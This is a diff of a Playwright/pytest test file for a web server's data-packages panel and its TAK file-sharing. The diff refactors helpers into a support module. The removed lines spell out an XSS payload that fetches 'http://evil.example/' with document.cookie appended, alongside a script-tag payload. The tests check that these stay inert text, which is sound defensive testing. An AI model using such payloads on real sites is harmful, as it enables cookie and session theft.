@@ -16,35 +16,44 @@ import time
 import zipfile
 from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager
 from pathlib import Path
-from urllib.parse import urlparse
 
 import httpx
 import pytest
 from lxml import etree
-from playwright.sync_api import Page, Request, expect
+from playwright.sync_api import Browser, Page, expect
 
-from tests.support.accounts import audit_entries, run_cli
+from tests.support.accounts import audit_entries
 from tests.support.cot_client import sa
 from tests.support.poll import wait_until_sync
 from tests.support.server import ServerProcess
-
-RESULTS = Path("test-results/web")
-PASSWORD = "packages passphrase 1"
-XSS = '<img src=x onerror="window.__xss=1;fetch(\'http://evil.example/\'+document.cookie)">'
-SCRIPT = "<script>window.__xss=2</script>"
+from tests.support.web_panels import (
+    XSS_IMG,
+    XSS_SCRIPT,
+    base_url,
+    logged_in,
+    open_panel,
+    password_of,
+    serve_with_accounts,
+    shot,
+)
 
 
 @pytest.fixture
 def packages_server(data_dir: Path) -> Iterator[ServerProcess]:
     """carol has no groups (she reads and writes ``__ANON__``, like plain TCP clients); alice is in A;
     dave is in A and ``__ANON__``."""
-    run_cli(data_dir, "user", "add", "carol", "--password-stdin", stdin=PASSWORD + "\n")
-    run_cli(data_dir, "user", "add", "alice", "--group", "A", "--password-stdin", stdin=PASSWORD + "\n")
-    run_cli(data_dir, "user", "add", "dave", "--group", "A", "--group", "__ANON__", "--password-stdin",
-            stdin=PASSWORD + "\n")
-    with ServerProcess(data_dir) as proc:
-        yield proc
+    yield from serve_with_accounts(data_dir, {"carol": ("member",), "alice": ("member", "A"),
+                                              "dave": ("member", "A", "__ANON__")})
+
+
+@contextmanager
+def _packages_page(browser: Browser, server: ServerProcess, outside: list[str] | None = None) -> Iterator[Page]:
+    """carol's page with the data packages panel open."""
+    with logged_in(browser, server.ports, "carol", outside=outside) as page:
+        open_panel(page, "packages")
+        yield page
 
 
 def _zip(marker: str) -> bytes:
@@ -75,23 +84,12 @@ def _read_until(tak: socket.socket, needle: bytes, timeout: float = 15.0) -> byt
     raise AssertionError(f"no event with {needle!r} within {timeout}s; got {data[-500:]!r}")
 
 
-def _log_in(page: Page, server: ServerProcess, user: str = "carol") -> str:
-    base = f"http://127.0.0.1:{server.ports['http']}"
-    page.goto(f"{base}/")
-    page.fill("#user", user)
-    page.fill("#password", PASSWORD)
-    page.click("#login button[type=submit]")
-    expect(page.locator("#status")).to_have_text("live")
-    page.click("#panel-packages summary")
-    return base
-
-
-def test_upload_in_the_page_then_send_to_a_tak_client(packages_server: ServerProcess, webgl_page: Page) -> None:
-    page = webgl_page
-    base = _log_in(page, packages_server)
+def test_upload_in_the_page_then_send_to_a_tak_client(packages_server: ServerProcess, webgl_browser: Browser) -> None:
+    base = base_url(packages_server.ports)
     data = _zip("relief")
     digest = hashlib.sha256(data).hexdigest()
-    with socket.create_connection(("127.0.0.1", packages_server.ports["cot"]), timeout=10) as tak:
+    with (_packages_page(webgl_browser, packages_server) as page,
+          socket.create_connection(("127.0.0.1", packages_server.ports["cot"]), timeout=10) as tak):
         tak.sendall(sa("ANDROID-bravo", "BRAVO", lat=9.52, lon=31.65))
         page.wait_for_function("() => rallypoint.picture.units.has('ANDROID-bravo')")
         page.set_input_files("#packages-file", files=[{"name": "relief.zip", "mimeType": "application/zip",
@@ -116,57 +114,49 @@ def test_upload_in_the_page_then_send_to_a_tak_client(packages_server: ServerPro
         row.get_by_label("Send relief.zip to callsign").fill("BRAVO")
         row.get_by_role("button", name="Send").click()
         expect(page.locator("#packages-status")).to_have_text("sent relief.zip to BRAVO")
-        RESULTS.mkdir(parents=True, exist_ok=True)
         row.scroll_into_view_if_needed()
-        page.screenshot(path=str(RESULTS / "web-packages.png"))
+        shot(page, "packages")
         request = etree.fromstring(_read_until(tak, b'type="b-f-t-r"'))
-    share = request.find("detail/fileshare")
-    assert share is not None and share.get("sha256") == digest and share.get("filename") == "relief.zip"
-    assert share.get("senderCallsign") == "carol" and share.get("senderUid") == "rallypoint-api-carol"
-    assert int(share.get("sizeInBytes")) == len(data)
-    assert request.find("detail/ackrequest") is not None and request.find("detail/marti") is None
-    got = httpx.get(share.get("senderUrl"), timeout=10)
-    assert got.status_code == 200 and hashlib.sha256(got.content).hexdigest() == digest
-    # An unknown contact: the server's words, nothing sent.
-    row.get_by_label("Send relief.zip to callsign").fill("NOBODY")
-    row.get_by_role("button", name="Send").click()
-    expect(page.locator("#packages-status")).to_have_text("no connected recipient you can reach by that name")
+        share = request.find("detail/fileshare")
+        assert share is not None and share.get("sha256") == digest and share.get("filename") == "relief.zip"
+        assert share.get("senderCallsign") == "carol" and share.get("senderUid") == "rallypoint-api-carol"
+        assert int(share.get("sizeInBytes")) == len(data)
+        assert request.find("detail/ackrequest") is not None and request.find("detail/marti") is None
+        got = httpx.get(share.get("senderUrl"), timeout=10)
+        assert got.status_code == 200 and hashlib.sha256(got.content).hexdigest() == digest
+        # An unknown contact: the server's words, nothing sent.
+        row.get_by_label("Send relief.zip to callsign").fill("NOBODY")
+        row.get_by_role("button", name="Send").click()
+        expect(page.locator("#packages-status")).to_have_text("no connected recipient you can reach by that name")
 
 
-def test_script_payloads_in_a_tak_upload_stay_text(packages_server: ServerProcess, webgl_page: Page) -> None:
-    page = webgl_page
-    outside: list[str] = []
-    dialogs: list[str] = []
-
-    def watch(request: Request) -> None:
-        if urlparse(request.url).hostname not in ("127.0.0.1", None) and not request.url.startswith(("data:", "blob:")):
-            outside.append(request.url)
-
-    page.on("request", watch)
-    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
-    base = _log_in(page, packages_server)
-    data = _zip("hostile")
-    digest = hashlib.sha256(data).hexdigest()
-    answer = httpx.post(f"{base}/Marti/sync/upload",
-                        params={"name": f"{XSS}.zip", "keywords": f"{XSS},{SCRIPT}", "creatorUid": SCRIPT},
-                        files={"assetfile": (f"{XSS}.zip", data, "application/zip")}, timeout=10)
-    assert answer.status_code == 200, answer.text
-    stored = httpx.get(f"{base}/api/packages/{digest}", timeout=10).json()
-    page.click("#packages-refresh")
-    row = page.locator(f"#packages-list li[data-hash='{digest}']")
-    expect(row.locator(".package-name")).to_have_text(stored["name"])  # as the server keeps it
-    expect(row.locator(".package-keywords")).to_have_text(f"keywords: {XSS}, {SCRIPT}")
-    expect(row.locator(".package-creator")).to_have_text(f"from {SCRIPT}")
-    assert row.locator("img, script").count() == 0
-    assert page.evaluate("() => window.__xss") is None
-    assert dialogs == [] and outside == []
+def test_script_payloads_in_a_tak_upload_stay_text(packages_server: ServerProcess, webgl_browser: Browser) -> None:
+    base = base_url(packages_server.ports)
+    outside: list[str] = []  # requests to another origin, and dialogs
+    with _packages_page(webgl_browser, packages_server, outside) as page:
+        data = _zip("hostile")
+        digest = hashlib.sha256(data).hexdigest()
+        answer = httpx.post(f"{base}/Marti/sync/upload",
+                            params={"name": f"{XSS_IMG}.zip", "keywords": f"{XSS_IMG},{XSS_SCRIPT}",
+                                    "creatorUid": XSS_SCRIPT},
+                            files={"assetfile": (f"{XSS_IMG}.zip", data, "application/zip")}, timeout=10)
+        assert answer.status_code == 200, answer.text
+        stored = httpx.get(f"{base}/api/packages/{digest}", timeout=10).json()
+        page.click("#packages-refresh")
+        row = page.locator(f"#packages-list li[data-hash='{digest}']")
+        expect(row.locator(".package-name")).to_have_text(stored["name"])  # as the server keeps it
+        expect(row.locator(".package-keywords")).to_have_text(f"keywords: {XSS_IMG}, {XSS_SCRIPT}")
+        expect(row.locator(".package-creator")).to_have_text(f"from {XSS_SCRIPT}")
+        assert row.locator("img, script").count() == 0
+        assert page.evaluate("() => window.__xss") is None
+    assert outside == []
 
 
 def test_send_applies_group_rules_and_is_audited(packages_server: ServerProcess, data_dir: Path) -> None:
-    base = f"http://127.0.0.1:{packages_server.ports['http']}"
+    base = base_url(packages_server.ports)
 
     def token(user: str) -> dict[str, str]:
-        answer = httpx.post(f"{base}/api/auth/token", auth=(user, PASSWORD), timeout=10)
+        answer = httpx.post(f"{base}/api/auth/token", auth=(user, password_of(user)), timeout=10)
         return {"Authorization": f"Bearer {answer.json()['access_token']}"}
 
     carol, alice, dave = token("carol"), token("alice"), token("dave")
